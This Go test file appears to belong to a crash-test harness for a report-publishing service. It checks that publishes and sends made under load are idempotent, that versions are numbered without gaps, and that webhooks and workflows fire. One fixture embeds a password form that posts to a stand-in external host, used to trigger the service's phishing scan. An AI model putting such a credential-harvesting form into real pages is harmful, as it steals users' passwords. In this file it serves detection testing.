package crashtest

import (
	"context"
	"encoding/json"
	"math/rand/v2"
	"slices"
	"sort"
	"time"

	"github.com/assent-hq/assent/internal/events"
	"go.temporal.io/sdk/client"
)

// Publishing operations the load sends.
const (
	opCreateReport   = "report create"
	opPublishVersion = "report publish"
	opSendReport     = "report send"
)

// heldPage is a page the publish scan holds: a password form posting to
// another origin.
const heldPage = `<form action="https://collect.example.net/x"><input type="password" name="p"></form>`

// publish creates a report or publishes a version of one; each publish
// says its Idempotency-Key in changeSummary, so the check finds what each
// key made. One in five is held by the scan.
func (l *load) publish(rng *rand.Rand) {
	key := l.newKey("publish")
	body := map[string]any{"changeSummary": key, "content": "<h1>" + key + "</h1>"}
	if rng.IntN(100) < 20 {
		body["content"] = "<h1>" + key + "</h1>" + heldPage
	}
	l.mu.Lock()
	var rep string
	if n := len(l.reports); n > 0 && rng.IntN(100) >= 25 {
		rep = l.reports[rng.IntN(n)]
	}
	l.mu.Unlock()
	if rep != "" && rng.IntN(100) < 15 {
		// A send to a new address: the address becomes a guest with a
		// grant, and the send's workflow emails it.
		b, _ := json.Marshal(map[string]any{"to": []string{key + "@crash.example"}, "note": key})
		l.send(&op{kind: opSendReport, path: "/api/v1/reports/" + rep + "/send", token: l.svc.keys().AgentKey, key: key,
			reportID: rep, body: string(b)})
		return
	}
	o := &op{kind: opPublishVersion, path: "/api/v1/reports/" + rep + "/versions", token: l.svc.keys().AgentKey, key: key, reportID: rep}
	if rep == "" {
		body["title"], body["living"] = "Report "+key, true
		o.kind, o.path = opCreateReport, "/api/v1/reports"
	}
	b, _ := json.Marshal(body)
	o.body = string(b)
	l.send(o)
	if o.kind == opCreateReport && o.acknowledged() {
		l.mu.Lock()
		l.reports = append(l.reports, idOf(o.respBody))
		l.mu.Unlock()
	}
}

// storedVersion is a version as the check finds it.
type storedVersion struct {
	ReportID      string
	ID            string `json:"id"`
	Version       int    `json:"version"`
	Status        string `json:"status"`
	ChangeSummary string `json:"changeSummary"`
}

// checkReports: every publish answered 2xx made exactly one version, the
// one it was told, and a refused one made none; each report's versions
// are numbered without gaps; every version that went live sent
// report.published (the first) or report.updated, every held one
// publish.held, each once; every held version has its workflow.
func (l *load) checkReports(ctx context.Context, rcv *receiver, tc client.Client, r *report) error {
	reps, err := listAll[struct {
		ID            string `json:"id"`
		LatestVersion int    `json:"latestVersion"`
	}](l, "/api/v1/reports")
	if err != nil {
		return err
	}
	r.Reports = len(reps)
	byKey := map[string][]storedVersion{}
	var all []storedVersion
	for _, rep := range reps {
		var page struct{ Data []storedVersion }
		if err := l.get("/api/v1/reports/"+rep.ID+"/versions", &page); err != nil {
			return err
		}
		for i, v := range page.Data {
			if v.Version != rep.LatestVersion-i {
				r.problem(&r.AuditGaps, "report %s: its versions are not 1 to %d without gaps", rep.ID, rep.LatestVersion)
				break
			}
		}
		if len(page.Data) != rep.LatestVersion {
			r.problem(&r.AuditGaps, "report %s has %d versions but latestVersion %d", rep.ID, len(page.Data), rep.LatestVersion)
		}
		for _, v := range page.Data {
			v.ReportID = rep.ID
			byKey[v.ChangeSummary] = append(byKey[v.ChangeSummary], v)
			all = append(all, v)
		}
	}
	r.Versions = len(all)
	if err := l.checkSends(ctx, tc, r); err != nil {
		return err
	}
	for _, o := range l.ops {
		if o.kind != opCreateReport && o.kind != opPublishVersion {
			continue
		}
		made := byKey[o.key]
		var told struct {
			ID      string `json:"id"`
			Version struct {
				ID string `json:"id"`
			} `json:"version"`
		}
		_ = json.Unmarshal(o.respBody, &told)
		switch {
		case len(made) > 1:
			r.problem(&r.Duplicates, "publish %s made %d versions", o.key, len(made))
		case o.acknowledged() && (len(made) == 0 || made[0].ID != told.Version.ID):
			r.problem(&r.Lost, "publish %s was answered %d with %s, which is not the version it made (%v)", o.key, o.status, told.Version.ID, made)
		case o.status != 0 && !o.acknowledged() && len(made) > 0:
			r.problem(&r.Divergences, "publish %s was answered %d yet made %s", o.key, o.status, made[0].ID)
		}
	}

	// The events each version's status implies, each once.
	sort.Slice(all, func(i, j int) bool { return all[i].Version < all[j].Version })
	want := func() (missing []string) {
		got := rcv.deliveries()
		first := map[string]bool{}
		for _, v := range all {
			kind := ""
			switch v.Status {
			case "held":
				kind = events.PublishHeld
			case "live", "previous":
				kind = events.ReportUpdated
				if !first[v.ReportID] {
					kind, first[v.ReportID] = events.ReportPublished, true
				}
			}
			if kind != "" && len(got[[3]string{"webhook", v.ReportID + "/" + v.ID, kind}]) == 0 {
				missing = append(missing, kind+" of "+v.ReportID+"/"+v.ID)
			}
		}
		return missing
	}
	wait, cancel := context.WithTimeout(ctx, 90*time.Second)
	defer cancel()
	waitUntil(wait, func() bool { return len(want()) == 0 })
	for _, m := range want() {
		r.problem(&r.MissingEvents, "the webhook never received %s", m)
	}

	// Every held version is waiting in its workflow, started by the
	// publish or, when a kill lost that start, by the reconciler.
	for _, v := range all {
		if v.Status != "held" {
			continue
		}
		r.Held++
		started := waitUntil(wait, func() bool {
			_, err := tc.DescribeWorkflowExecution(ctx, "publish-hold/"+v.ID, "")
			return err == nil
		})
		if !started {
			r.problem(&r.Lost, "held version %s has no workflow", v.ID)
		}
	}
	return nil
}

// checkSends: a send answered 2xx granted its address and has its
// workflow (started by the send or, when a kill lost that start, by the
// reconciler); a refused one granted nothing.
func (l *load) checkSends(ctx context.Context, tc client.Client, r *report) error {
	audiences := map[string][]string{}
	wait, cancel := context.WithTimeout(ctx, 90*time.Second)
	defer cancel()
	for _, o := range l.ops {
		if o.kind != opSendReport || o.status == 0 {
			continue // unanswered: it may have granted or not
		}
		aud, ok := audiences[o.reportID]
		if !ok {
			var rep struct{ Audience []string }
			if err := l.get("/api/v1/reports/"+o.reportID, &rep); err != nil {
				return err
			}
			aud, audiences[o.reportID] = rep.Audience, rep.Audience
		}
		granted := slices.Contains(aud, o.key+"@crash.example")
		switch {
		case o.acknowledged() && !granted:
			r.problem(&r.Lost, "send %s was answered %d but its address has no grant", o.key, o.status)
		case !o.acknowledged() && granted:
			r.problem(&r.Divergences, "send %s was answered %d yet granted its address", o.key, o.status)
		}
		if !o.acknowledged() {
			continue
		}
		r.Sends++
		id := idOf(o.respBody)
		if !waitUntil(wait, func() bool {
			_, err := tc.DescribeWorkflowExecution(ctx, "report-send/"+id, "")
			return err == nil
		}) {
			r.problem(&r.Lost, "send %s (%s) has no workflow", o.key, id)
		}
	}
	return nil
}
